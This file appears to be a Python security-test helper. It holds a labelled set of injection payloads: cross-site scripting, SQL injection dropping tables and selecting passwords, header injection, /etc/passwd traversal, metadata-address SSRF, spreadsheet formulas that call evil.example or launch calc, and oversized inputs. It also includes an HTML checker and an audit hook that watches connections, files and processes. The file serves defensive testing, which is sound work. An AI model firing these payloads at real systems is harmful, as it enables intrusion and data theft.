"""What somebody types who means harm, and what would show that it was more than text to us.

`MARK` stands in every payload. A page is read as a browser reads it: a script, an attribute that
listens or an address that leads elsewhere is found by what it is, however it was written.
"""

import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

MARK = "corridorevil"
FILLED = str(7654321 * 1234567)
"""What the payload of a template would become; too long to stand in a hash by chance."""

ELSEWHERE = frozenset({"evil.example", "169.254.169.254", "metadata.internal"})

PAYLOADS = {
    "a script": f"<script>{MARK}(1)</script>",
    "the end of a script": f"</script><script>{MARK}(1)</script>",
    "a picture that listens": f"<img src=x onerror={MARK}(1)>",
    "the end of an attribute": f'" autofocus onfocus="{MARK}(1)" x="',
    "the end of another": f"' autofocus onfocus='{MARK}(1)' x='",
    "an address that acts": f"javascript:{MARK}(1)",
    "a page that leads on": f'"><meta http-equiv=refresh content="0;url=//evil.example/{MARK}">',
    "a template": f"{{{{7654321*1234567}}}}{{% raise {MARK} %}}",
    "the end of a statement": f"{MARK}'); DROP TABLE questions; --",
    "another statement": f"{MARK}' UNION SELECT password, name, 1, 1 FROM people; --",  # noqa: S608  # what is tried
    "a condition": f"{MARK}%' OR '1'='1",
    "a header": f"{MARK}\r\nSet-Cookie: evil={MARK}\r\n\r\n<script>{MARK}(1)</script>",
    "a file above": f"../../../../../../etc/passwd?{MARK}",
    "a file that ends early": f"{MARK}\x00.json",
    "an address": f"http://169.254.169.254/latest/meta-data/{MARK}",
    "another host": f"//evil.example/{MARK}",
    "a file by its address": f"file:///etc/passwd#{MARK}",
    "another scheme": f"gopher://metadata.internal:70/_{MARK}",
    "a formula": f'=HYPERLINK("http://evil.example/{MARK}";"x")',
    "a formula that runs": f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    "half of a letter": f"\ud800{MARK}",
    "letters turned round": f"{MARK}\u202egnp.exe",
    "a number without end": "9" * 5000,
    "a power": "1e999999999",
    "brackets without end": "[" * 20_000,
    "objects without end": '{"a":' * 5_000,
    "a long line": MARK * 500,
}

_ADDRESSES = {"href", "src", "action", "formaction", "poster", "data", "hx-get", "hx-post"}
_DATA = {"application/ld+json", "application/json"}


class _Reader(HTMLParser):
    """Collects what a text from outside must never become."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name.lower(): value or "" for name, value in attrs}
        if tag == "script" and "src" not in values and values.get("type") not in _DATA:
            self.found.append("a script of its own")
        for name, value in values.items():
            if name.startswith("on") or name in {"autofocus", "srcdoc"}:
                self.found.append(f"<{tag} {name}>")
            if name in _ADDRESSES and _leads_away(value):
                self.found.append(f"<{tag} {name}> leads to {urlsplit(value).hostname}")
        if values.get("http-equiv", "").lower() == "refresh":
            _, _, onward = values.get("content", "").partition("url=")
            if _leads_away(onward) or not onward.startswith("/"):
                self.found.append("a page that leads on elsewhere")


def _leads_away(address: str) -> bool:
    plain = "".join(address.split()).lower()
    if plain.startswith(("javascript:", "data:text", "vbscript:", "file:", "gopher:")):
        return True
    try:
        return urlsplit(plain.replace("\\", "/")).hostname in ELSEWHERE
    except ValueError:
        return False


def harm_in(page: str) -> list[str]:
    """What a browser would do with this page that no text may make it do."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return [*reader.found, *(["a template that was filled"] if FILLED in page else [])]


@dataclass
class Watched:
    """What the process did while it was watched."""

    dialled: list[str] = field(default_factory=list)
    opened: list[str] = field(default_factory=list)
    started: list[str] = field(default_factory=list)

    def harm(self) -> list[str]:
        """What it did because a text from outside said so."""
        dialled = [one for one in self.dialled if any(host in one for host in ELSEWHERE)]
        files = [one for one in self.opened if "passwd" in one or MARK in one]
        return [*dialled, *files, *(one for one in self.started if MARK in one)]


_watching: list[Watched] = []


def _hear(event: str, arguments: tuple[Any, ...]) -> None:
    if not _watching:
        return
    kept = {
        "socket.connect": "dialled",
        "socket.getaddrinfo": "dialled",
        "socket.gethostbyname": "dialled",
        "urllib.Request": "dialled",
        "open": "opened",
        "os.remove": "opened",
        "os.rename": "opened",
        "subprocess.Popen": "started",
        "os.system": "started",
    }.get(event)
    if kept is not None:
        for one in _watching:
            getattr(one, kept).append(repr(arguments))


sys.addaudithook(_hear)


@contextmanager
def watched() -> Iterator[Watched]:
    """Hears what the interpreter itself says of connections, files and programs."""
    one = Watched()
    _watching.append(one)
    try:
        yield one
    finally:
        _watching.remove(one)
